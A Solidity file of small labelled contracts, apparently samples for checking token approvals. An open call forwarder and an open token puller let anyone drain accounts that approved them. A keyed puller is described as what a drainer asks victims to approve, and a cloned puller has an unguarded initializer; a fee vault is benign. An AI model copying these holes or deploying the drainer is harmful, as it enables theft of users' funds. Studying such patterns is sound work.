// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";

/// Makes any call that anybody asks for, in its own name: whoever approved it, approved everybody.
contract OpenForwarder {
    function forward(address target, bytes calldata data) external payable returns (bytes memory) {
        (bool ok, bytes memory answer) = target.call{value: msg.value}(data);
        require(ok, "call failed");
        return answer;
    }
}

/// Pulls from an account that the caller names.
contract OpenPuller {
    function pull(IERC20 token, address from, uint256 amount) external {
        token.transferFrom(from, msg.sender, amount);
    }
}

/// What a drainer asks its victims to approve: fixed code, and one key takes.
contract KeyedPuller is Ownable {
    constructor(address owner_) Ownable(owner_) {}

    function claim(IERC20 token, address from, uint256 amount) external onlyOwner {
        token.transferFrom(from, owner(), amount);
    }
}

/// Clones of this ask its owner of the moment; they have no constructor.
contract ClonedPuller {
    address public owner;

    function initialize(address owner_) external {
        require(owner == address(0), "again");
        owner = owner_;
    }

    function claim(IERC20 token, address from, uint256 amount) external {
        require(msg.sender == owner, "not the owner");
        token.transferFrom(from, owner, amount);
    }
}

/// A vault that pulls from whoever pays in; its owner sets a fee, and nothing else.
contract FeeVault is Ownable {
    IERC20 public immutable token;
    uint256 public fee;
    mapping(address holder => uint256) public deposits;

    constructor(IERC20 token_, address owner_) Ownable(owner_) {
        token = token_;
    }

    function setFee(uint256 fee_) external onlyOwner {
        require(fee_ <= 100, "fee");
        fee = fee_;
    }

    function deposit(uint256 amount) external {
        require(token.transferFrom(msg.sender, address(this), amount));
        deposits[msg.sender] += amount;
    }

    function withdraw(uint256 amount) external {
        deposits[msg.sender] -= amount;
        require(token.transfer(msg.sender, amount));
    }
}
